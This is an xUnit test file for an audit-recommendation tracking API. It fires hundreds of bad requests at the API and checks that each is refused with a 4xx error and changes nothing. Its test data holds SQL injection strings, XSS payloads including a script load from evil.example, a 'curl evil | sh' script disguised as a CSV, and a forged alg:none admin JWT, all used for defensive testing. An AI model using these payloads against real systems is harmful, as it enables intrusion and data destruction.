using System.Net;
using System.Text;
using System.Text.Json.Nodes;
using Xunit.Abstractions;

namespace Oversight.Api.Tests;

/// <summary>
/// Hundreds of bad requests: every one is answered 4xx with a ProblemDetails body (never 5xx), and the state of the
/// system (every recommendation's version and history, the audit chain) is exactly as before.
/// </summary>
public sealed class BadInputTests(OversightFactory factory, ITestOutputHelper output) : IClassFixture<OversightFactory>
{
    private sealed record Case(string Name, string User, HttpMethod Method, string Url, Func<HttpContent?> Body, int? Expected = null);

    private static readonly string Target = Http.Rec("F1-R4");      // ICT
    private static readonly string Closed = Http.Rec("O1-R1");      // ICT, closed by the setup below

    private static HttpContent Json(string text) => new StringContent(text, Encoding.UTF8, "application/json");

    private static HttpContent Raw(byte[] bytes, string type = "application/json") =>
        new ByteArrayContent(bytes) { Headers = { ContentType = new(type) } };

    private static IEnumerable<Case> Cases()
    {
        var rec = $"/api/v1/recommendations/{Target}";
        string[] jsonEndpoints = ["progress", "response", "actions", "comments", "extensions", "verification", "extensions/ext-1/decision", "evidence/ev-1/withdrawal"];

        // 1. Malformed JSON, on every JSON endpoint (8 endpoints x 9 bodies = 72).
        string[] malformed = ["{", "{\"note\":", "not json", "", "[]", "{\"note\": \"x\",}", "{'note': 'x'}", "{\"progress\": NaN}", "null"];
        foreach (var endpoint in jsonEndpoints)
        {
            var user = endpoint is "verification" or "extensions/ext-1/decision" ? "auditor" : "ict";
            foreach (var body in malformed)
            {
                yield return new($"malformed {endpoint} «{body}»", user, HttpMethod.Post, $"{rec}/{endpoint}", () => Json(body), 400);
            }
        }
        foreach (var body in malformed)
        {
            yield return new($"malformed action update «{body}»", "ict", HttpMethod.Put, $"{rec}/actions/act-1", () => Json(body), 400);
            yield return new($"malformed token «{body}»", "anonymous", HttpMethod.Post, "/api/v1/auth/token", () => Json(body), 400);
        }

        // 2. Invalid UTF-8 (raw bytes) on JSON endpoints.
        byte[][] invalidUtf8 =
        [
            [.. "{\"note\":\""u8.ToArray(), 0xC3, 0x28, .. "\",\"progress\":5,\"expectedVersion\":1}"u8.ToArray()],
            [.. "{\"text\":\""u8.ToArray(), 0xFF, 0xFE, .. "\"}"u8.ToArray()],
            [.. "{\"reason\":\""u8.ToArray(), 0xE0, 0xB8, .. "\"}"u8.ToArray()],
            [.. "{\"note\":\""u8.ToArray(), 0xED, 0xA0, 0x80, .. "\"}"u8.ToArray()],
        ];
        foreach (var endpoint in new[] { "progress", "comments", "extensions", "response" })
        {
            foreach (var bytes in invalidUtf8)
            {
                yield return new($"invalid utf-8 {endpoint}", "ict", HttpMethod.Post, $"{rec}/{endpoint}", () => Raw(bytes), 400);
            }
        }

        // 3. Wrong types.
        string[] wrongProgress =
        [
            "{\"progress\":\"fifty\",\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":50.5,\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":true,\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":[50],\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":1e40,\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":\"50\",\"note\":\"x\",\"expectedVersion\":1}",
            "{\"progress\":5,\"note\":42,\"expectedVersion\":1}",
            "{\"progress\":5,\"note\":{\"th\":\"x\"},\"expectedVersion\":1}",
            "{\"progress\":5,\"note\":\"x\",\"expectedVersion\":\"one\"}",
            "{\"progress\":5,\"note\":\"x\",\"expectedVersion\":1.5}",
            "{\"status\":3,\"note\":\"x\",\"expectedVersion\":1}",
            "{\"status\":true,\"note\":\"x\",\"expectedVersion\":1}",
            "{\"status\":[\"in-progress\"],\"note\":\"x\",\"expectedVersion\":1}",
        ];
        foreach (var body in wrongProgress)
        {
            yield return new($"wrong type {body}", "ict", HttpMethod.Post, $"{rec}/progress", () => Json(body), 400);
        }
        string[] wrongAction =
        [
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"tomorrow\"}",
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"2026-13-45\"}",
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":20270101}",
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"31/01/2027\"}",
            "{\"title\":5,\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\"}",
            "{\"title\":\"x\",\"ownerUnit\":7,\"dueDate\":\"2027-01-31\"}",
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\",\"status\":\"finished\"}",
            "{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\",\"progress\":\"half\"}",
        ];
        foreach (var body in wrongAction)
        {
            yield return new($"wrong action {body}", "ict", HttpMethod.Post, $"{rec}/actions", () => Json(body), 400);
        }
        yield return new("extension date is a number", "ict", HttpMethod.Post, $"{rec}/extensions", () => Json("{\"requestedDueDate\":20270101,\"reason\":\"x\"}"), 400);
        yield return new("extension date is nonsense", "ict", HttpMethod.Post, $"{rec}/extensions", () => Json("{\"requestedDueDate\":\"soon\",\"reason\":\"x\"}"), 400);
        yield return new("comment text is an array", "ict", HttpMethod.Post, $"{rec}/comments", () => Json("{\"text\":[\"x\"]}"), 400);

        // 4. Unknown enum values and unknown members.
        string[] unknownStatuses = ["done", "CLOSED", "closed_implemented", "InProgress", "in progress", "", "closed-implemented ", "overdue", "in-progress'; DROP TABLE oversight_event; --"];
        foreach (var status in unknownStatuses)
        {
            yield return new($"unknown status «{status}»", "ict", HttpMethod.Post, $"{rec}/progress",
                () => Json($"{{\"status\":{System.Text.Json.JsonSerializer.Serialize(status)},\"note\":\"x\",\"expectedVersion\":1}}"), 400);
            if (status.Trim() != "closed-implemented")
            {
                yield return new($"unknown status filter «{status}»", "executive", HttpMethod.Get,
                    $"/api/v1/recommendations?status={Uri.EscapeDataString(status.Length == 0 ? ",x" : status)}", () => null, 400);
            }
        }
        foreach (var decision in new[] { "approved", "close", "IMPLEMENTED", "implemented;--", "" })
        {
            yield return new($"unknown verification «{decision}»", "auditor", HttpMethod.Post, $"{rec}/verification",
                () => Json($"{{\"decision\":\"{decision}\",\"note\":\"x\",\"expectedVersion\":1}}"), 400);
            yield return new($"unknown extension decision «{decision}»", "auditor", HttpMethod.Post, $"{rec}/extensions/ext-1/decision",
                () => Json($"{{\"decision\":\"{decision}\",\"note\":\"x\"}}"), 400);
        }
        foreach (var response in new[] { "yes", "agree", "partly_agreed", "Disagreed" })
        {
            yield return new($"unknown response «{response}»", "ict", HttpMethod.Post, $"{rec}/response", () => Json($"{{\"response\":\"{response}\"}}"), 400);
        }
        yield return new("unknown member", "ict", HttpMethod.Post, $"{rec}/progress", () => Json("{\"progress\":5,\"note\":\"x\",\"expectedVersion\":1,\"approvedBy\":\"me\"}"), 400);
        yield return new("misspelt member", "ict", HttpMethod.Post, $"{rec}/comments", () => Json("{\"txt\":\"hello\"}"), 400);
        yield return new("unknown token member", "anonymous", HttpMethod.Post, "/api/v1/auth/token", () => Json("{\"username\":\"ict\",\"password\":\"demo-2569\",\"role\":\"admin\"}"), 400);

        // 5. Missing required values and values out of range.
        yield return new("progress without expectedVersion", "ict", HttpMethod.Post, $"{rec}/progress", () => Json("{\"progress\":5,\"note\":\"x\"}"), 400);
        yield return new("progress without note", "ict", HttpMethod.Post, $"{rec}/progress", () => Json("{\"progress\":5,\"expectedVersion\":1}"), 400);
        yield return new("progress blank note", "ict", HttpMethod.Post, $"{rec}/progress", () => Json("{\"progress\":5,\"note\":\"   \",\"expectedVersion\":1}"), 400);
        // A note alone is a change (issue 9), so this one is refused only for its stale version.
        yield return new("progress note alone on a stale version", "ict", HttpMethod.Post, $"{rec}/progress", () => Json("{\"note\":\"x\",\"expectedVersion\":1}"), 409);
        foreach (var progress in new[] { -1, 101, 1000, int.MaxValue, int.MinValue })
        {
            yield return new($"progress {progress}", "ict", HttpMethod.Post, $"{rec}/progress", () => Json($"{{\"progress\":{progress},\"note\":\"x\",\"expectedVersion\":1}}"), 400);
        }
        yield return new("note too long", "ict", HttpMethod.Post, $"{rec}/progress", () => Json($"{{\"progress\":5,\"note\":\"{new string('ก', 4001)}\",\"expectedVersion\":1}}"), 400);
        yield return new("comment too long", "ict", HttpMethod.Post, $"{rec}/comments", () => Json($"{{\"text\":\"{new string('x', 5000)}\"}}"), 400);
        yield return new("comment missing", "ict", HttpMethod.Post, $"{rec}/comments", () => Json("{}"), 400);
        yield return new("action missing title", "ict", HttpMethod.Post, $"{rec}/actions", () => Json("{\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\"}"), 400);
        yield return new("action unknown unit", "ict", HttpMethod.Post, $"{rec}/actions", () => Json("{\"title\":\"x\",\"ownerUnit\":\"NOPE\",\"dueDate\":\"2027-01-31\"}"), 400);
        yield return new("action unit injection", "ict", HttpMethod.Post, $"{rec}/actions", () => Json("{\"title\":\"x\",\"ownerUnit\":\"ICT' OR '1'='1\",\"dueDate\":\"2027-01-31\"}"), 400);
        yield return new("action date 1900", "ict", HttpMethod.Post, $"{rec}/actions", () => Json("{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"1900-01-01\"}"), 400);
        yield return new("action progress 150", "ict", HttpMethod.Post, $"{rec}/actions", () => Json("{\"title\":\"x\",\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\",\"progress\":150}"), 400);
        yield return new("extension earlier than due", "ict", HttpMethod.Post, $"{rec}/extensions", () => Json("{\"requestedDueDate\":\"2020-01-01\",\"reason\":\"x\"}"), 400);
        yield return new("extension without reason", "ict", HttpMethod.Post, $"{rec}/extensions", () => Json("{\"requestedDueDate\":\"2030-01-01\"}"), 400);
        yield return new("extension decision without note", "auditor", HttpMethod.Post, $"{rec}/extensions/ext-1/decision", () => Json("{\"decision\":\"approve\"}"), 400);
        yield return new("verification without version", "auditor", HttpMethod.Post, $"{rec}/verification", () => Json("{\"decision\":\"reopen\",\"note\":\"x\"}"), 400);
        yield return new("withdrawal without reason", "ict", HttpMethod.Post, $"{rec}/evidence/ev-1/withdrawal", () => Json("{}"), 400);
        yield return new("token without password", "anonymous", HttpMethod.Post, "/api/v1/auth/token", () => Json("{\"username\":\"ict\"}"), 401);
        yield return new("list offset negative", "executive", HttpMethod.Get, "/api/v1/recommendations?offset=-1", () => null, 400);
        yield return new("list limit zero", "executive", HttpMethod.Get, "/api/v1/recommendations?limit=0", () => null, 400);
        yield return new("list limit huge", "executive", HttpMethod.Get, "/api/v1/recommendations?limit=100000", () => null, 400);
        yield return new("list overdue yes", "executive", HttpMethod.Get, "/api/v1/recommendations?overdue=yes", () => null, 400);
        yield return new("list unit injection", "executive", HttpMethod.Get, "/api/v1/recommendations?unit=" + Uri.EscapeDataString("ICT' OR 1=1 --"), () => null, 400);
        yield return new("list report injection", "executive", HttpMethod.Get, "/api/v1/recommendations?reportId=" + Uri.EscapeDataString("x'; DROP TABLE oversight_event; --"), () => null, 400);

        // 6. Skipped and forbidden transitions (valid JSON, invalid move).
        yield return new("pending verification below 100%", "ict", HttpMethod.Post, $"{rec}/progress",
            () => Json("{\"status\":\"implemented-pending-verification\",\"progress\":60,\"note\":\"not done\",\"expectedVersion\":%V%}"), 400);
        yield return new("progress without a note", "ict", HttpMethod.Post, $"{rec}/progress",
            () => Json("{\"expectedVersion\":%V%}"), 400);
        foreach (var status in new[] { "closed-implemented", "closed-partly-implemented", "closed-not-implemented", "no-longer-applicable" })
        {
            yield return new($"unit sets {status}", "ict", HttpMethod.Post, $"{rec}/progress",
                () => Json($"{{\"status\":\"{status}\",\"progress\":100,\"note\":\"x\",\"expectedVersion\":%V%}}"), 400);
        }
        yield return new("verify implemented from not-started", "auditor", HttpMethod.Post, $"{rec}/verification",
            () => Json("{\"decision\":\"implemented\",\"note\":\"x\",\"expectedVersion\":%V%}"), 400);
        yield return new("verify partly from not-started", "auditor", HttpMethod.Post, $"{rec}/verification",
            () => Json("{\"decision\":\"partly-implemented\",\"note\":\"x\",\"expectedVersion\":%V%}"), 400);
        yield return new("reopen an open recommendation", "auditor", HttpMethod.Post, $"{rec}/verification",
            () => Json("{\"decision\":\"reopen\",\"note\":\"x\",\"expectedVersion\":%V%}"), 400);
        yield return new("progress on a closed recommendation", "ict", HttpMethod.Post, $"/api/v1/recommendations/{Closed}/progress",
            () => Json("{\"status\":\"in-progress\",\"progress\":10,\"note\":\"x\",\"expectedVersion\":%C%}"), 400);
        yield return new("close a closed recommendation again", "auditor", HttpMethod.Post, $"/api/v1/recommendations/{Closed}/verification",
            () => Json("{\"decision\":\"not-implemented\",\"note\":\"x\",\"expectedVersion\":%C%}"), 400);
        yield return new("stale expected version", "ict", HttpMethod.Post, $"{rec}/progress",
            () => Json("{\"progress\":5,\"note\":\"x\",\"expectedVersion\":0}"), 409);
        yield return new("future expected version", "ict", HttpMethod.Post, $"{rec}/progress",
            () => Json("{\"progress\":5,\"note\":\"x\",\"expectedVersion\":999999}"), 409);
        yield return new("negative expected version", "ict", HttpMethod.Post, $"{rec}/progress",
            () => Json("{\"progress\":5,\"note\":\"x\",\"expectedVersion\":-1}"), 409);

        // 7. Script and markup in free text.
        string[] scripts =
        [
            "<script>alert(1)</script>", "<img src=x onerror=alert(document.cookie)>", "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>",
            "ดูที่ <a href=\"javascript:alert(1)\">ลิงก์</a>", "<body onload=alert(1)>", "<!--<script>-->", "<script src=//evil.example/x.js",
        ];
        foreach (var script in scripts)
        {
            var text = System.Text.Json.JsonSerializer.Serialize(script);
            yield return new($"script in note «{script}»", "ict", HttpMethod.Post, $"{rec}/progress", () => Json($"{{\"progress\":7,\"note\":{text},\"expectedVersion\":%V%}}"), 400);
            yield return new($"script in comment «{script}»", "ict", HttpMethod.Post, $"{rec}/comments", () => Json($"{{\"text\":{text}}}"), 400);
            yield return new($"script in action title «{script}»", "ict", HttpMethod.Post, $"{rec}/actions", () => Json($"{{\"title\":{text},\"ownerUnit\":\"ICT\",\"dueDate\":\"2027-01-31\"}}"), 400);
            yield return new($"script in extension reason «{script}»", "ict", HttpMethod.Post, $"{rec}/extensions", () => Json($"{{\"requestedDueDate\":\"2031-01-01\",\"reason\":{text}}}"), 400);
        }

        // 8. SQL text where identifiers go (path segments and query strings).
        string[] sql = ["' OR '1'='1", "1; DROP TABLE oversight_event; --", "x\") UNION SELECT * FROM OrleansStorage --", "%27%20OR%201%3D1"];
        foreach (var injection in sql)
        {
            var escaped = Uri.EscapeDataString(injection);
            yield return new($"sql in id «{injection}»", "ict", HttpMethod.Post, $"/api/v1/recommendations/{escaped}/comments", () => Json("{\"text\":\"x\"}"), 404);
            yield return new($"sql in id read «{injection}»", "executive", HttpMethod.Get, $"/api/v1/recommendations/{escaped}", () => null, 404);
            yield return new($"sql in action id «{injection}»", "ict", HttpMethod.Put, $"{rec}/actions/{escaped}", () => Json("{\"progress\":5}"), 404);
            yield return new($"sql in extension id «{injection}»", "auditor", HttpMethod.Post, $"{rec}/extensions/{escaped}/decision", () => Json("{\"decision\":\"reject\",\"note\":\"x\"}"), 404);
            yield return new($"sql in evidence id «{injection}»", "executive", HttpMethod.Get, $"{rec}/evidence/{escaped}", () => null, 404);
            yield return new($"sql in report id «{injection}»", "executive", HttpMethod.Get, $"/api/v1/reports/{escaped}", () => null, 404);
            yield return new($"sql in username «{injection}»", "anonymous", HttpMethod.Post, "/api/v1/auth/token",
                () => Json($"{{\"username\":{System.Text.Json.JsonSerializer.Serialize(injection)},\"password\":\"x\"}}"), 401);
        }

        // 9. Uploads: too large, executable renamed .pdf, not multipart, no file, other disguised content.
        yield return new("100 MB upload", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(new byte[100 * 1024 * 1024], "huge.pdf"), 413);
        yield return new("26 MB upload", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(Pad(Http.Pdf(), 26 * 1024 * 1024), "big.pdf"), 413);
        yield return new("executable renamed .pdf", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(Http.RenamedExecutable(), "report.pdf"), 400);
        yield return new("ELF renamed .pdf", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload([0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0], "report.pdf"), 400);
        yield return new("shell script renamed .csv", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload("#!/bin/sh\ncurl evil | sh\n"u8.ToArray(), "data.csv"), 400);
        yield return new("html renamed .csv", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload("<html><script>alert(1)</script></html>"u8.ToArray(), "data.csv"), 400);
        yield return new("zip renamed .docx", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(Zip(), "plan.docx"), 400);
        yield return new("empty file", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload([], "empty.pdf"), 400);
        yield return new("json instead of multipart", "ict", HttpMethod.Post, $"{rec}/evidence", () => Json("{\"file\":\"JVBERi0=\"}"), 400);
        yield return new("multipart without file", "ict", HttpMethod.Post, $"{rec}/evidence", () => new MultipartFormDataContent { { new StringContent("x"), "description" } }, 400);
        yield return new("multipart with bad version", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(Http.Pdf("v"), "a.pdf", expectedVersion: null).With("expectedVersion", "latest"), 400);
        yield return new("script in evidence description", "ict", HttpMethod.Post, $"{rec}/evidence", () => Http.Upload(Http.Pdf("d"), "a.pdf", "<script>alert(1)</script>"), 400);

        // 10. Things that do not exist, and callers who are not signed in.
        yield return new("unknown recommendation", "ict", HttpMethod.Post, "/api/v1/recommendations/mol-digital-2565.F9-R9/comments", () => Json("{\"text\":\"x\"}"), 404);
        yield return new("unknown action", "ict", HttpMethod.Put, $"{rec}/actions/act-99", () => Json("{\"progress\":5}"), 404);
        yield return new("unknown extension", "auditor", HttpMethod.Post, $"{rec}/extensions/ext-99/decision", () => Json("{\"decision\":\"reject\",\"note\":\"x\"}"), 404);
        yield return new("unknown evidence withdrawal", "ict", HttpMethod.Post, $"{rec}/evidence/ev-99/withdrawal", () => Json("{\"reason\":\"x\"}"), 404);
        yield return new("unknown evidence download", "executive", HttpMethod.Get, $"{rec}/evidence/ev-99", () => null, 404);
        yield return new("unknown report", "executive", HttpMethod.Get, "/api/v1/reports/no-such-report", () => null, 404);
        yield return new("no token write", "anonymous", HttpMethod.Post, $"{rec}/comments", () => Json("{\"text\":\"x\"}"), 401);
        yield return new("no token read", "anonymous", HttpMethod.Get, "/api/v1/recommendations", () => null, 401);
        yield return new("garbage token", "garbage", HttpMethod.Post, $"{rec}/comments", () => Json("{\"text\":\"x\"}"), 401);
        yield return new("wrong password", "anonymous", HttpMethod.Post, "/api/v1/auth/token", () => Json("{\"username\":\"ict\",\"password\":\"wrong\"}"), 401);
        yield return new("text/plain body", "ict", HttpMethod.Post, $"{rec}/comments", () => new StringContent("{\"text\":\"x\"}", Encoding.UTF8, "text/plain"), 415);
        yield return new("no body", "ict", HttpMethod.Post, $"{rec}/comments", () => null);
    }

    private static byte[] Pad(byte[] head, int size)
    {
        var bytes = new byte[size];
        head.CopyTo(bytes, 0);
        return bytes;
    }

    private static byte[] Zip()
    {
        using var buffer = new MemoryStream();
        using (var zip = new System.IO.Compression.ZipArchive(buffer, System.IO.Compression.ZipArchiveMode.Create, true))
        {
            using var writer = new StreamWriter(zip.CreateEntry("readme.txt").Open());
            writer.Write("not an office document");
        }
        return buffer.ToArray();
    }

    [Fact]
    public async Task Hundreds_of_bad_requests_are_refused_with_4xx_and_change_nothing()
    {
        var ict = await factory.ClientForAsync("ict");
        var auditor = await factory.ClientForAsync("auditor");
        // Something for the requests to refer to: an action, evidence, a pending extension; and one closed recommendation.
        Assert.Equal(HttpStatusCode.Created, (await ict.PostJsonAsync($"/api/v1/recommendations/{Target}/actions",
            new { title = "แผน", ownerUnit = "ICT", dueDate = "2027-03-31" })).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await ict.PostAsync($"/api/v1/recommendations/{Target}/evidence", Http.Upload(Http.Pdf("setup"), "setup.pdf"))).StatusCode);
        Assert.Equal(HttpStatusCode.Created, (await ict.PostJsonAsync($"/api/v1/recommendations/{Target}/extensions",
            new { requestedDueDate = "2027-06-30", reason = "รอ" })).StatusCode);
        Assert.Equal(HttpStatusCode.OK, (await auditor.PostJsonAsync($"/api/v1/recommendations/{Closed}/verification",
            new { decision = "no-longer-applicable", note = "ยกเลิก", expectedVersion = await auditor.VersionAsync(Closed) })).StatusCode);

        var before = await SnapshotAsync(auditor);
        var targetVersion = await auditor.VersionAsync(Target);
        var closedVersion = await auditor.VersionAsync(Closed);
        var cases = Cases().ToArray();
        Assert.True(cases.Length >= 200, $"only {cases.Length} cases");

        var clients = new Dictionary<string, HttpClient>();
        foreach (var user in cases.Select(c => c.User).Distinct())
        {
            clients[user] = user switch
            {
                "anonymous" => await factory.ClientForAsync(null),
                "garbage" => await Garbage(),
                _ => await factory.ClientForAsync(user),
            };
        }

        var failures = new List<string>();
        foreach (var c in cases)
        {
            var request = new HttpRequestMessage(c.Method, c.Url);
            var content = c.Body();
            if (content is StringContent && (await content.ReadAsStringAsync()) is var text && (text.Contains("%V%") || text.Contains("%C%")))
            {
                content = new StringContent(text.Replace("%V%", targetVersion.ToString()).Replace("%C%", closedVersion.ToString()),
                    Encoding.UTF8, content.Headers.ContentType!.MediaType!);
            }
            request.Content = content;
            var response = await clients[c.User].SendAsync(request);
            var status = (int)response.StatusCode;
            var body = await response.Content.ReadAsStringAsync();
            if (status is < 400 or >= 500 || (c.Expected is { } expected && status != expected))
            {
                failures.Add($"{c.Name}: {status} (expected {c.Expected?.ToString() ?? "4xx"}) {Clip(body)}");
            }
            else if (status != 401 && !body.Contains("\"status\":" + status))
            {
                failures.Add($"{c.Name}: {status} without a ProblemDetails body: {Clip(body)}");
            }
        }
        output.WriteLine($"{cases.Length} bad requests sent");
        Assert.Empty(failures);

        var after = await SnapshotAsync(auditor);
        Assert.Equal(before, after);
        var verify = await auditor.GetJsonAsync("/api/v1/audit-trail/verify");
        Assert.True(verify["intact"]!.GetValue<bool>());
    }

    private async Task<HttpClient> Garbage()
    {
        var client = await factory.ClientForAsync(null);
        client.DefaultRequestHeaders.Authorization = new("Bearer", "eyJhbGciOiJub25lIn0.eyJzdWIiOiJhZG1pbiIsInJvbGUiOiJhZG1pbiJ9.");
        return client;
    }

    /// <summary>Every recommendation's version and full history, and the board version.</summary>
    private static async Task<string> SnapshotAsync(HttpClient client)
    {
        var list = await client.GetJsonAsync("/api/v1/recommendations?limit=500");
        var builder = new StringBuilder();
        foreach (var item in list["items"]!.AsArray())
        {
            var id = item!["id"]!.GetValue<string>();
            var detail = await client.GetJsonAsync($"/api/v1/recommendations/{id}");
            builder.Append(id).Append(' ').Append(detail["version"]).Append(' ').Append(detail["history"]!.ToJsonString()).Append('\n');
        }
        builder.Append((await client.GetJsonAsync("/api/v1/board"))["version"]);
        return builder.ToString();
    }

    private static string Clip(string text) => text.Length > 300 ? text[..300] : text;
}

internal static class MultipartExtensions
{
    public static MultipartFormDataContent With(this MultipartFormDataContent form, string name, string value)
    {
        form.Add(new StringContent(value), name);
        return form;
    }
}
